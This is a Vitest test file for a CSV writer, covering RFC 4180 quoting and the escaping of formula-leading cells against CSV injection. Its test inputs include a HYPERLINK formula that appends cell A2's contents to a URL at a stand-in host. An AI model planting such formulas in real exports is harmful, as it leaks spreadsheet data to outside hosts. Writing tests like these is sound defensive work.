import { describe, expect, it } from 'vitest';
import { csvCell, csvNumber, csvText, toCsv } from '../../../../shared/csv/csv-writer.ts';

describe('toCsv', () => {
  it('quotes cells with commas, quotes and line breaks (RFC 4180) and leaves unknowns empty', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x, y', 'say "hi"'],
          [null, Number.NaN],
          ['two\nlines', 3],
        ],
      ),
    ).toBe('a,b\r\n"x, y","say ""hi"""\r\n,\r\n"two\nlines",3\r\n');
  });
});

describe('formula starts (OWASP CSV Injection: =, +, -, @, tab, carriage return)', () => {
  it.each([
    ['=HYPERLINK("http://example.test/?"&A2,"Runner B")', `"'=HYPERLINK(""http://example.test/?""&A2,""Runner B"")"`],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-5', "'-5"], // text that looks like a number is still text
    ['Easy 10 km', 'Easy 10 km'],
    ['a=b', 'a=b'], // only the first character matters
  ])('text %j becomes %j', (value, cell) => {
    expect(csvText(value)).toBe(cell);
    expect(csvCell(value)).toBe(cell);
  });

  it.each<[number | ReturnType<typeof csvNumber>, string]>([
    [-12, '-12'],
    [-0.5, '-0.5'],
    [csvNumber(-3.14159, 1), '-3.1'],
    [csvNumber(2, 3), '2.000'],
    [csvNumber(Number.NaN, 1), ''],
    [csvNumber(null, 1), ''],
    [Number.POSITIVE_INFINITY, ''],
    [1e21, '1e+21'], // not a plain decimal: written as text, which starts with a digit
  ])('the app’s own number %j stays a number: %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
